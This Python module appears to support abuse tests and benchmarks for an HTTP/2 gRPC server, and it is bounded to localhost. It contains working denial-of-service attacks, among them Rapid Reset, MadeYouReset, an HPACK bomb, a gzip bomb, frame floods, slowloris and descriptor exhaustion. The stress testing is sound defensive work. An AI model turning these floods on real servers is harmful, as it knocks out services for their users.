"""Hostile HTTP/2 clients for the abuse tests and bench/h2_abuse.py.

Frames are written by hand (a 9-byte header and a payload), so a client can
send what a well-behaved library refuses to: CONTINUATION without end, HPACK
literals announcing 1 GiB, integers padded with continuation bytes. Header
blocks that are valid are encoded with python3-hpack. Every attack is one
function run(port, seconds, max_bytes) that returns an Outcome; each one is
bounded in bytes sent and in seconds, and talks to 127.0.0.1 only.

Also here: the legitimate client (grpcio, GetProduct every 50 ms in a
thread), the server-side probes (VmRSS and CPU seconds from /proc) and the
product id that client asks for."""

import errno
import os
import resource
import select
import socket
import struct
import threading
import time
import zlib

import hpack

import harness

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
                3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
                9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
# Every attack stops after this many seconds unless told otherwise;
# H2_ATTACK_SECONDS shortens it (the ASan tree).
DEFAULT_SECONDS = float(os.environ.get("H2_ATTACK_SECONDS", "8"))
DEFAULT_BYTES = 256 << 20


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags,
                                                             stream & 0x7FFFFFFF) + payload


def settings(**kv):
    ids = {"header_table_size": 1, "enable_push": 2, "max_concurrent_streams": 3,
           "initial_window_size": 4, "max_frame_size": 5, "max_header_list_size": 6}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in kv.items()))


def grpc_message(body, announced=None):
    """A gRPC length-prefixed message; announced overrides the length."""
    return b"\x00" + struct.pack(">I", len(body) if announced is None else announced) + body


def request_block(port, method):
    """A reusable header block for POST method: literals never indexed, so
    the same bytes are valid for every stream of a connection."""
    enc = hpack.Encoder()
    hdrs = [(":method", "POST"), (":scheme", "http"), (":path", method),
            (":authority", "127.0.0.1:%d" % port)]
    hdrs += [hpack.NeverIndexedHeaderTuple(k, v) for k, v in
             (("content-type", "application/grpc"), ("te", "trailers"))]
    return enc.encode(hdrs, huffman=False)


GET = "/product.ProductService/GetProduct"
LIST = "/product.ProductService/ListProducts"


class Outcome:
    """What the abusive side saw."""

    def __init__(self, name):
        self.name = name
        self.started = time.monotonic()
        self.closed_after = None  # seconds from start to EOF/reset, None = still open
        self.goaway = None        # error code of the first GOAWAY
        self.resets = 0           # RST_STREAM frames received
        self.ended = 0            # streams the server ended (trailers or RST_STREAM)
        self.sent = 0             # bytes written
        self.streams = 0          # streams opened
        self.connections = 0      # connections opened (multi-connection attacks)
        self.refused = 0          # connections refused / closed (multi-connection attacks)
        self.note = ""

    def mark_closed(self):
        if self.closed_after is None:
            self.closed_after = time.monotonic() - self.started

    def summary(self):
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY %s" % GOAWAY_NAMES.get(self.goaway, self.goaway))
        if self.closed_after is not None:
            parts.append("closed after %.2f s" % self.closed_after)
        elif not self.connections:
            parts.append("open")
        if self.resets:
            parts.append("%d RST_STREAM" % self.resets)
        if self.connections:
            parts.append("%d conns, %d closed by server" % (self.connections, self.refused))
        parts.append("%d streams, %.1f MB sent" % (self.streams, self.sent / 1e6))
        if self.note:
            parts.append(self.note)
        return "; ".join(parts)


class Conn:
    """One raw HTTP/2 connection. With read=True a thread reads and parses
    the server's frames (ACKs its SETTINGS, tracks window credit, GOAWAY and
    RST_STREAM); with read=False nothing is ever read."""

    def __init__(self, port, outcome, read=True, preface=True, client_settings=None,
                 ack_settings=True):
        self.out = outcome
        self.ack_settings = ack_settings
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setblocking(False)
        self.closed = False
        self.conn_window = 65535
        self.lock = threading.Lock()
        self.credit = threading.Condition(self.lock)
        self.acked = threading.Event()  # the server's SETTINGS acknowledged
        self.reader = None
        if preface:
            self.send(PREFACE + (client_settings or settings()), time.monotonic() + 5)
        if read:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()
            # As clients do (the core's wait for it, grpc-go and nghttp2
            # assume 100 streams until it comes): the server's stream limit
            # holds from here, and an attack is judged on what it attacks,
            # not closed for opening streams before it (a bounded wait).
            if preface and ack_settings:
                self.acked.wait(10 * harness.SLOW)

    def send(self, data, deadline):
        """Writes data before deadline; False when the server closed the
        connection or the deadline passed first."""
        view = memoryview(data)
        while view and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            try:
                n = self.sock.send(view)
            except BlockingIOError:
                select.select([], [self.sock], [], min(left, 0.05))
                continue
            except OSError:
                self._closed()
                return False
            self.out.sent += n
            view = view[n:]
        return not self.closed

    def _closed(self):
        with self.lock:
            mine = self.closed  # we closed it ourselves: not the server's doing
            self.closed = True
            self.credit.notify_all()
        if not mine:
            self.out.mark_closed()

    def _read(self):
        buf = b""
        while not self.closed:
            try:
                r, _, _ = select.select([self.sock], [], [], 0.1)
                if not r:
                    continue
                chunk = self.sock.recv(1 << 16)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                self._closed()
                return
            if not chunk:
                self._closed()
                return
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big")
                payload, buf = buf[9:9 + n], buf[9 + n:]
                self._frame(ftype, flags, sid & 0x7FFFFFFF, payload)

    def _frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            if self.ack_settings:
                self.send(frame(SETTINGS, ACK, 0), time.monotonic() + 1)
                self.acked.set()
        elif ftype == GOAWAY and self.out.goaway is None and len(payload) >= 8:
            self.out.goaway = int.from_bytes(payload[4:8], "big")
        elif ftype == RST_STREAM:
            self.out.resets += 1
            self.out.ended += 1
        elif ftype == HEADERS and flags & END_STREAM:
            self.out.ended += 1
        elif ftype == WINDOW_UPDATE and sid == 0 and len(payload) >= 4:
            with self.lock:
                self.conn_window += int.from_bytes(payload, "big") & 0x7FFFFFFF
                self.credit.notify_all()

    def take_credit(self, n, deadline):
        """Waits (bounded) until the connection window allows n bytes."""
        with self.lock:
            while self.conn_window < n and not self.closed:
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self.credit.wait(min(left, 0.1))
            if self.closed:
                return False
            self.conn_window -= n
            return True

    def wait_closed(self, timeout):
        """True when the server closes within timeout (the reader sees EOF)."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            if self.reader is None:
                try:
                    if not self.sock.recv(1 << 16):
                        self._closed()
                except BlockingIOError:
                    pass
                except OSError:
                    self._closed()
            time.sleep(0.02)
        return self.closed

    def close(self):
        with self.lock:
            self.closed = True
        try:
            self.sock.close()
        except OSError:
            pass
        if self.reader:
            self.reader.join(timeout=2)


def _loop(conn, out, seconds, max_bytes, batch):
    """Sends batch() until the server closes, seconds pass or max_bytes
    are written."""
    deadline = out.started + seconds
    while time.monotonic() < deadline and out.sent < max_bytes:
        if not conn.send(batch(), deadline):
            break


# ----------------------------------------------------------------- attacks ---

def rapid_reset(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, product_id="x",
                max_streams=None):
    """CVE-2023-44487: HEADERS + DATA + RST_STREAM(CANCEL), over and over;
    with max_streams, at most that many streams (a count bound, for a test
    that asserts the close came before it)."""
    out = Outcome("rapid_reset")
    c = Conn(port, out)
    return c, _stream_flood(c, out, port, seconds, max_bytes, max_streams,
                            lambda s, body: frame(DATA, 0, s, body) +
                            frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)), product_id)


def _stream_flood(c, out, port, seconds, max_bytes, max_streams, rest, product_id="x"):
    """GetProduct(product_id) streams on c, 100 a write, each HEADERS
    followed by rest(stream, body), until the server closes, seconds pass,
    max_bytes are written or max_streams (None: no bound) are opened."""
    block = request_block(port, GET)
    body = grpc_message(b"\x0a" + bytes([len(product_id)]) + product_id.encode())
    sid = [1]

    def batch():
        parts = []
        for _ in range(100):
            s = sid[0]
            parts.append(frame(HEADERS, END_HEADERS, s, block) + rest(s, body))
            sid[0] += 2
            out.streams += 1
        return b"".join(parts)
    deadline = out.started + seconds
    while time.monotonic() < deadline and out.sent < max_bytes and \
            (max_streams is None or out.streams < max_streams):
        if not c.send(batch(), deadline):
            break
    return out


def unacked_settings(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, max_streams=None):
    """A client that reads everything but never acknowledges the server's
    SETTINGS: the 1.51 core holds it to its stream limit only once they are
    acknowledged, so it may open streams (HEADERS + DATA, GetProduct) as
    fast as it writes them and never wait for an answer. With max_streams,
    at most that many."""
    out = Outcome("unacked_settings")
    c = Conn(port, out, ack_settings=False)
    return c, _stream_flood(c, out, port, seconds, max_bytes, max_streams,
                            lambda s, body: frame(DATA, END_STREAM, s, body))


def made_you_reset(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, in_flight=50):
    """CVE-2025-8671: frames after a complete request that a server answers
    with RST_STREAM (DATA or HEADERS after END_STREAM, a PRIORITY making the
    stream depend on itself), taking turns. A server that resets the stream
    at once frees its slot while the call still runs, and the client opens
    the next: calls pile up as in a rapid reset without a RST_STREAM of the
    client's. Paced to in_flight streams the server has not ended, so the
    stream limit never closes it."""
    out = Outcome("made_you_reset")
    c = Conn(port, out)
    block = request_block(port, GET)
    body = grpc_message(b"\x0a\x01x")
    tails = (lambda s: frame(DATA, END_STREAM, s, b"\x00"),
             lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block),
             lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 16)))
    sid = 1
    deadline = out.started + seconds
    while time.monotonic() < deadline and out.sent < max_bytes and not c.closed:
        if out.streams - out.ended >= in_flight:
            time.sleep(0.001)
            continue
        parts = []
        for _ in range(10):
            parts.append(frame(HEADERS, END_HEADERS, sid, block) +
                         frame(DATA, END_STREAM, sid, body) + tails[(sid // 2) % 3](sid))
            sid += 2
            out.streams += 1
        if not c.send(b"".join(parts), deadline):
            break
    return c, out


def zip_bomb(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, inflated=512 << 20,
             streams=4):
    """A gzip request message of about 0.5 MB that inflates to 512 MiB,
    on a few streams: a core that inflates before it checks the message
    limit (1.51 does) holds the whole of it."""
    out = Outcome("zip_bomb")
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\x0a" * (1 << 20)
    comp = b"".join(co.compress(chunk) for _ in range(inflated >> 20)) + co.flush()
    msg = b"\x01" + struct.pack(">I", len(comp)) + comp  # flag 1: compressed
    enc = hpack.Encoder()
    block = enc.encode([(":method", "POST"), (":scheme", "http"), (":path", GET),
                        (":authority", "127.0.0.1:%d" % port)] +
                       [hpack.NeverIndexedHeaderTuple(k, v) for k, v in (
                           ("content-type", "application/grpc"), ("te", "trailers"),
                           ("grpc-encoding", "gzip"),
                           ("grpc-accept-encoding", "identity,gzip"))], huffman=False)
    c = Conn(port, out)
    deadline = out.started + seconds
    for i in range(streams):
        s = 1 + 2 * i
        if not c.send(frame(HEADERS, END_HEADERS, s, block), deadline):
            break
        out.streams += 1
        for off in range(0, len(msg), 16384):
            p = msg[off:off + 16384]
            last = off + 16384 >= len(msg)
            if not c.take_credit(len(p), deadline) or \
                    not c.send(frame(DATA, END_STREAM if last else 0, s, p), deadline):
                break
    out.note = "%d bytes inflating to %d MiB per stream" % (len(comp), inflated >> 20)
    while time.monotonic() < deadline and out.ended < out.streams and not c.closed:
        time.sleep(0.05)
    return c, out


def goaway_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
    """GOAWAY frames, over and over, on one connection: cheap to send, about
    a microsecond of the 1.51 core's time each."""
    out = Outcome("goaway_flood")
    c = Conn(port, out)
    chunk = frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)) * 1000
    _loop(c, out, seconds, max_bytes, lambda: chunk)
    return c, out


def small_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=4):
    """Request messages announced at 4 MiB and fed one byte a DATA frame on
    a few streams, never completed: the 1.51 core keeps some 40 bytes a
    frame until a message is whole (170 MB a stream)."""
    out = Outcome("small_data")
    c = Conn(port, out)
    block = request_block(port, GET)
    deadline = out.started + seconds
    prefix = grpc_message(b"", announced=4 << 20)
    for i in range(streams):
        s = 1 + 2 * i
        if not c.send(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, 0, s, prefix), deadline):
            break
        out.streams += 1
    one = b"".join(frame(DATA, 0, 1 + 2 * (k % streams), b"\x0a") for k in range(4000))
    while time.monotonic() < deadline and out.sent < max_bytes and not c.closed:
        if not c.take_credit(4000, deadline) or not c.send(one, deadline):
            break
    return c, out


def pending_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=100):
    """Request messages of 4 MiB on every stream the limit allows, each sent
    but for its last byte and held: the 1.51 core grants window for whole
    messages and keeps every byte until the message completes (400 MB on
    one connection, for as long as the client likes)."""
    out = Outcome("pending_data")
    c = Conn(port, out)
    block = request_block(port, GET)
    size = (4 << 20) - 5
    msg = grpc_message(b"\x0a" * (size - 1), announced=size)
    deadline = out.started + seconds
    for i in range(streams):
        if not c.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, block), deadline):
            break
        out.streams += 1
    for off in range(0, len(msg), 16384):
        part = msg[off:off + 16384]
        for i in range(out.streams):
            if c.closed or out.sent >= max_bytes or not c.take_credit(len(part), deadline) or \
                    not c.send(frame(DATA, 0, 1 + 2 * i, part), deadline):
                break
        if c.closed or time.monotonic() >= deadline or out.sent >= max_bytes:
            break
    while time.monotonic() < deadline and not c.closed:  # hold it
        time.sleep(0.05)
    return c, out


def stalled_replies(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, calls=100,
                    window=1):
    """A client that announces a stream window of `window` bytes and never
    grants more, asking ListProducts (page_size 100) on as many streams as
    the limit allows: every large page waits in the server for a reader
    that never reads. Needs a catalog of large products (see
    fill_catalog) for the pages to be large."""
    c, out = _lists_on_a_window("stalled_replies", port, seconds, calls, window)
    out.note = "%d of %d streams answered at once" % (out.ended, out.streams)
    return c, out


def _lists_on_a_window(name, port, seconds, calls, window):
    """calls ListProducts (page_size 100) from a client whose stream window
    is `window` bytes, never granted more; the connection is held."""
    out = Outcome(name)
    c = Conn(port, out, client_settings=settings(initial_window_size=window))
    block = request_block(port, LIST)
    body = grpc_message(b"\x08\x64")  # page_size 100
    deadline = out.started + seconds
    for i in range(calls):
        s = 1 + 2 * i
        if not c.send(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, body),
                      deadline):
            break
        out.streams += 1
    while time.monotonic() < deadline and not c.closed:  # hold it
        time.sleep(0.05)
    return c, out


def fill_catalog(addr, token, n=100, description=4000):
    """n products with `description` bytes each: a ListProducts page of
    100 is then some 400 KB."""
    with harness.channel(addr) as ch:
        fn = ch.unary_unary("/product.ProductService/CreateProduct",
                            request_serializer=lambda b: b, response_deserializer=lambda b: b)
        desc = b"d" * description
        for i in range(n):
            name = b"big-%d" % i
            # CreateProductRequest{name, description, price}
            req = (b"\x0a" + bytes([len(name)]) + name + b"\x12" +
                   _varint(len(desc)) + desc + b"\x19" + struct.pack("<d", 1.0))
            fn(req, metadata=[("authorization", "Bearer " + token)], timeout=30)


def _varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def held_headers(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=100,
                 headers=2000):
    """Requests whose metadata is just under the header list limit (2,000
    headers of some 100 bytes, in HEADERS + CONTINUATION frames), on every
    stream the limit allows, none ever sending its message: the core keeps
    each decoded list until the message comes (65 MB a connection)."""
    out = Outcome("held_headers")
    c = Conn(port, out)
    deadline = out.started + seconds
    for i in range(streams):
        s = 1 + 2 * i
        enc = hpack.Encoder()
        hdrs = [(":method", "POST"), (":scheme", "http"), (":path", GET),
                (":authority", "127.0.0.1:%d" % port)]
        hdrs += [hpack.NeverIndexedHeaderTuple(k, v) for k, v in
                 (("content-type", "application/grpc"), ("te", "trailers"))]
        hdrs += [hpack.NeverIndexedHeaderTuple("x-h%d" % k, "v" * 90) for k in range(headers)]
        block = enc.encode(hdrs, huffman=False)
        parts = [block[o:o + 16384] for o in range(0, len(block), 16384)]
        data = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, s, parts[0])
        for k, p in enumerate(parts[1:], 1):
            data += frame(CONTINUATION, END_HEADERS if k == len(parts) - 1 else 0, s, p)
        if not c.send(data, deadline):
            break
        out.streams += 1
    while time.monotonic() < deadline and not c.closed:  # hold them
        time.sleep(0.05)
    return c, out


def ping_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
    """PINGs as fast as the socket takes them; the PONGs are never read."""
    out = Outcome("ping_flood")
    c = Conn(port, out, read=False)
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    _loop(c, out, seconds, max_bytes, lambda: pings)
    return c, out


def big_messages(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=1200):
    """streams streams, each announcing a 4 MiB message and sending its
    64 KiB stream window of it (within the connection window credited)."""
    out = Outcome("big_messages")
    c = Conn(port, out)
    block = request_block(port, GET)
    deadline = out.started + seconds
    window = 65535
    first = grpc_message(b"", announced=4 << 20)
    chunk = 16384
    for i in range(streams):
        s = 1 + 2 * i
        if not c.send(frame(HEADERS, END_HEADERS, s, block), deadline):
            break
        out.streams += 1
        left = window
        payload = first + b"\x0a" * (chunk - len(first))
        while left > 0 and out.sent < max_bytes:
            p = payload[:min(chunk, left)]
            if not c.take_credit(len(p), deadline) or not c.send(frame(DATA, 0, s, p), deadline):
                break
            left -= len(p)
            payload = b"\x0a" * chunk
        if c.closed or time.monotonic() >= deadline or out.sent >= max_bytes:
            break
    return c, out


def zero_window(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, calls=5000):
    """A client with a zero receive window (never updated) asking calls
    ListProducts: every answer has to wait in the server."""
    return _lists_on_a_window("zero_window", port, seconds, calls, 0)


def hpack_bomb(port, seconds=DEFAULT_SECONDS, max_bytes=32 << 20):
    """CVE-2023-33953: a literal header whose value announces 1 GiB, fed in
    CONTINUATION frames; then integers padded with continuation bytes."""
    out = Outcome("hpack_bomb")
    c = Conn(port, out)
    deadline = out.started + seconds
    # Literal without indexing, new name "x-big", value length 1 GiB (7-bit prefix).
    lit = b"\x00\x05x-big" + b"\x7f" + _hpack_int_tail((1 << 30) - 127)
    block = request_block(port, GET)
    c.send(frame(HEADERS, 0, 1, block + lit), deadline)
    out.streams += 1
    filler = frame(CONTINUATION, 0, 1, b"a" * 16384)
    half = out.started + seconds / 2
    while time.monotonic() < half and out.sent < max_bytes // 2:
        if not c.send(filler * 16, half):
            break
    if not c.closed:
        # Second connection: an indexed field whose index is 0x7f followed
        # by 64 KiB of 0x80 padding bytes (value 127 + 0: still index 127).
        c.close()
        c = Conn(port, out)
        pad = b"\xff" + b"\x80" * 16000
        c.send(frame(HEADERS, 0, 1, block + pad[:16000]), deadline)
        filler = frame(CONTINUATION, 0, 1, b"\x80" * 16384)
        while time.monotonic() < deadline and out.sent < max_bytes:
            if not c.send(filler * 16, deadline):
                break
    return c, out


def _hpack_int_tail(n):
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def empty_data(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
    """CVE-2019-9518: one open stream, then empty DATA frames without end."""
    out = Outcome("empty_data")
    c = Conn(port, out)
    c.send(frame(HEADERS, END_HEADERS, 1, request_block(port, GET)), out.started + seconds)
    out.streams += 1
    empties = frame(DATA, 0, 1) * 2000
    _loop(c, out, seconds, max_bytes, lambda: empties)
    return c, out


def continuation(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end
    (each a valid literal header, so a decoder keeps them all)."""
    out = Outcome("continuation")
    c = Conn(port, out)
    c.send(frame(HEADERS, 0, 1, request_block(port, GET)), out.started + seconds)
    out.streams += 1
    enc = hpack.Encoder()
    field = enc.encode([hpack.NeverIndexedHeaderTuple("x-a", "b" * 1000)], huffman=False)
    conts = frame(CONTINUATION, 0, 1, field * 16) * 16
    _loop(c, out, seconds, max_bytes, lambda: conts)
    return c, out


def settings_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
    """SETTINGS frames (each one the server must ACK), as fast as taken."""
    out = Outcome("settings_flood")
    c = Conn(port, out)
    many = settings(header_table_size=4096, initial_window_size=65535,
                    max_frame_size=16384) * 1000
    _loop(c, out, seconds, max_bytes, lambda: many)
    return c, out


class Many:
    """Several connections held as one attack (idle, slowloris, fd flood)."""

    def __init__(self, out):
        self.out = out
        self.socks = []

    def count_closed(self):
        n = 0
        for s in self.socks:
            try:
                if s.recv(1 << 16, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b"":
                    n += 1
            except BlockingIOError:
                pass
            except OSError:
                n += 1
        self.out.refused = max(self.out.refused, n)
        return n

    def close(self):
        for s in self.socks:
            s.close()
        self.socks = []

    closed = False

    def wait_closed(self, timeout):
        return False


def raise_nofile(n):
    """Raises this process's RLIMIT_NOFILE soft limit to n (or the hard one);
    servers started afterwards inherit it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n if hard == resource.RLIM_INFINITY else min(n, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def idle_connections(port, seconds=DEFAULT_SECONDS, count=3000, preface=True):
    """count connections that send the preface and SETTINGS (or, with
    preface=False, nothing at all: slowloris) and then stay idle."""
    out = Outcome("idle_connections" if preface else "slowloris")
    m = Many(out)
    hello = PREFACE + settings()
    deadline = out.started + seconds
    # All count connections are opened, however long a loaded machine takes
    # (a hang guard, not the attack window), then held until the window ends.
    guard = out.started + max(seconds, 120.0)
    for _ in range(count):
        if time.monotonic() >= guard:
            break
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
        except OSError as e:
            out.refused += 1
            out.note = "connect: %s" % errno.errorcode.get(e.errno, e)
            continue
        if preface:
            s.sendall(hello)
            out.sent += len(hello)
        elif out.connections % 2:
            s.sendall(PREFACE[:5])  # a few bytes, never the rest
            out.sent += 5
        s.setblocking(False)  # count_closed() must not wait on any of them
        m.socks.append(s)
        out.connections += 1
    while time.monotonic() < deadline:
        time.sleep(0.05)
    m.count_closed()
    return m, out


def slowloris(port, seconds=DEFAULT_SECONDS, count=500):
    return idle_connections(port, seconds, count=count, preface=False)


def fd_flood(port, seconds=DEFAULT_SECONDS, count=600):
    """More connections than the server has file descriptors, held."""
    m, out = idle_connections(port, seconds, count=count)
    out.name = "fd_exhaustion"
    return m, out


ATTACKS = {
    "rapid_reset": rapid_reset, "ping_flood": ping_flood, "big_messages": big_messages,
    "zero_window": zero_window, "idle_connections": idle_connections,
    "hpack_bomb": hpack_bomb, "empty_data": empty_data, "continuation": continuation,
    "settings_flood": settings_flood, "slowloris": slowloris,
    "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
    "zip_bomb": zip_bomb, "goaway_flood": goaway_flood, "small_data": small_data,
    "pending_data": pending_data, "held_headers": held_headers,
}
# Not in ATTACKS: stalled_replies, which needs a catalog of large products
# (fill_catalog) that the bench's servers do not have.


# ------------------------------------------------------------ server probes ---

def rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_seconds(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def alive(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


# -------------------------------------------------------- legitimate client ---

class Legit:
    """GetProduct(product_id) every 50 ms on its own channel, in a thread;
    also samples the server's RSS at each call (the peak is kept)."""

    def __init__(self, addr, product_id, pid, timeout=5.0, ready_timeout=30.0):
        import grpc  # noqa: E402
        self.grpc = grpc
        self.channel = harness.channel(addr)
        try:
            grpc.channel_ready_future(self.channel).result(timeout=ready_timeout)
        except grpc.FutureTimeoutError:
            self.channel.close()
            raise
        # GetProductRequest{id} and back as bytes: no generated code needed.
        self.req = b"\x0a" + bytes([len(product_id)]) + product_id.encode()
        self.fn = self.channel.unary_unary(GET, request_serializer=lambda b: b,
                                           response_deserializer=lambda b: b)
        self.pid = pid
        self.timeout = timeout
        self.latencies = []
        self.completed_at = []  # monotonic end of every call that succeeded
        self.failures = []
        self.peak_rss = 0
        self.stop = threading.Event()
        self.thread = None

    def call(self):
        t = time.monotonic()
        try:
            self.fn(self.req, timeout=self.timeout)
        except self.grpc.RpcError as e:
            self.failures.append("%s %s" % (e.code().name, e.details()))
            return False
        end = time.monotonic()
        self.latencies.append(end - t)
        self.completed_at.append(end)
        return True

    def _run(self):
        while not self.stop.is_set():
            self.call()
            try:
                self.peak_rss = max(self.peak_rss, rss_kb(self.pid))
            except OSError:
                pass
            self.stop.wait(0.05)

    def start(self):
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()
        return self

    def finish(self):
        self.stop.set()
        self.thread.join(timeout=self.timeout + 5)

    def p99_ms(self):
        if not self.latencies:
            return float("nan")
        lat = sorted(self.latencies)
        return 1000 * lat[min(len(lat) - 1, int(0.99 * len(lat)))]

    def close(self):
        self.channel.close()


def create_product(addr, token):
    """Creates one product (CreateProduct with token); returns its id."""
    with harness.channel(addr) as ch:
        fn = ch.unary_unary("/product.ProductService/CreateProduct",
                            request_serializer=lambda b: b, response_deserializer=lambda b: b)
        # CreateProductRequest{name="probe", price=1.0}
        req = b"\x0a\x05probe" + b"\x19" + struct.pack("<d", 1.0)
        reply = fn(req, metadata=[("authorization", "Bearer " + token)], timeout=10)
    # Product.id is field 1 (a string), first on the wire.
    if not reply or reply[0] != 0x0a:
        raise AssertionError("CreateProduct reply without an id: %r" % reply[:40])
    return reply[2:2 + reply[1]].decode()
